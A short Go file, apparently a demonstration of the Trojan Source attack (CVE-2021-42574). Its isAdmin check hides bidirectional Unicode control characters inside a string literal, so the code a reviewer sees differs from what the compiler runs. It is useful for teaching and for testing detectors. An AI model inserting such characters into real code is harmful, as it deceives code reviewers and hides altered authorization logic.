package app

// Trojan Source (CVE-2021-42574): the comment hides a return.
func isAdmin(user string) bool {
	if user != "admin‮ ⁦// Check if admin⁩ ⁦" {
		return false
	}
	return true
}
